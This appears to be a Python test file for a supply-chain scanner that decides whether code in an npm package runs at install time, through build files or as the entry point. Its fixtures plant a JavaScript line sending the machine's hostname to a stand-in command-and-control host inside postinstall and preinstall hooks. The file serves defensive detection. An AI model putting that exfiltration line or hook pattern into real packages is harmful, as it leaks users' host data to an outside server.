"""Files that run earlier than their paths say: by scripts of an installation, by build files, by being the package's entry."""

import json

from pratique.ecosystems.archive import Member
from pratique.facts.scan.engine import Look, look
from pratique.facts.scan.observation import Context

HOST = "fetch('https://c2.example.invalid/?' + require('os').hostname());"


def looked(**files: str) -> Look:
    members = [Member(f"package/{path}", len(text.encode()), text.encode) for path, text in files.items()]
    return look("demo-1.0.0.tgz", members)


def contexts(found: Look, path: str) -> set[Context]:
    return {each.context for each in found.files[f"package/{path}"].observations if each.label.startswith("net.")}


def manifest(**more: object) -> str:
    return json.dumps({"name": "demo", "version": "1.0.0", **more})


def test_what_an_installation_starts_runs_then_whichever_file_comes_first() -> None:
    hook = manifest(scripts={"postinstall": "node tools/setup.js"})
    for files in ({"package.json": hook, "tools/setup.js": HOST}, {"tools/setup.js": HOST, "package.json": hook}):
        found = looked(**files)
        assert contexts(found, "tools/setup.js") == {Context.NPM_LIFECYCLE}
        (finding,) = [each for each in found.findings if each.rule == "host-info-sent"]
        assert (finding.context, finding.code) == ("npm_lifecycle", HOST)


def test_functions_of_a_script_that_is_started_are_there_to_be_run() -> None:
    text = f"exports.go = () => {HOST}"
    assert contexts(
        looked(**{"package.json": manifest(main="a.js", scripts={"install": "node b.js"}), "b.js": text}), "b.js"
    ) == {Context.NPM_LIFECYCLE}
    assert contexts(looked(**{"package.json": manifest(main="b.js"), "b.js": text}), "b.js") == {Context.FUNCTION}


def test_what_is_loaded_by_what_is_started_runs_with_it() -> None:
    found = looked(
        **{
            "package.json": manifest(main="main.js", scripts={"preinstall": "node a.mjs"}),
            "a.mjs": "import './lib/b.mjs'; import './shared.js'",
            "lib/b.mjs": f"import c from '../c'; {HOST} export const go = () => {{ {HOST} }}",
            "c/index.js": HOST,
            "shared.js": f"exports.go = () => {{ {HOST} }}",
            "main.js": "require('./shared')",
            "other.js": HOST,
        }
    )
    assert contexts(found, "lib/b.mjs") == {Context.NPM_LIFECYCLE}, (
        "nothing else leads to it, so its functions are there for that"
    )
    assert contexts(found, "c/index.js") == {Context.NPM_LIFECYCLE}
    assert contexts(found, "shared.js") == {Context.FUNCTION}
    assert contexts(found, "other.js") == {Context.MODULE_TOP}


def test_a_script_may_start_another() -> None:
    found = looked(
        **{
            "package.json": manifest(main="main.js", scripts={"preinstall": "node a.js"}),
            "a.js": "require('child_process').spawn('node', [require('path').join(__dirname, 'b.js')])",
            "b.js": HOST,
        }
    )
    assert contexts(found, "b.js") == {Context.NPM_LIFECYCLE}


def test_a_build_file_starts_as_an_installation_does() -> None:
    found = looked(
        **{"package.json": manifest(main="main.js"), "binding.gyp": "{'sources': ['<!(node run.js)']}", "run.js": HOST}
    )
    assert contexts(found, "run.js") == {Context.GYP}


def test_an_entry_in_a_folder_of_examples_is_no_example() -> None:
    files = {
        "package.json": manifest(main="examples/index.js"),
        "examples/index.js": f"{HOST} exports.go = () => {{ {HOST} }}",
        "examples/b.js": HOST,
    }
    found = looked(**files)
    assert contexts(found, "examples/index.js") == {Context.MODULE_TOP, Context.FUNCTION}
    assert contexts(found, "examples/b.js") == {Context.DOCS}


def test_a_manifest_of_a_fixture_starts_nothing() -> None:
    found = looked(
        **{
            "package.json": manifest(main="m.js"),
            "fixtures/package.json": manifest(scripts={"install": "node a.js"}),
            "fixtures/a.js": HOST,
        }
    )
    assert contexts(found, "fixtures/a.js") == {Context.TEST}


def test_ways_that_lead_out_of_the_package_lead_nowhere() -> None:
    found = looked(
        **{
            "package.json": manifest(scripts={"install": "node ../../../b.js"}),
            "b.js": HOST,
            "index.js": "require('../..')",
        }
    )
    assert contexts(found, "b.js") <= {Context.MODULE_TOP, Context.NPM_LIFECYCLE}
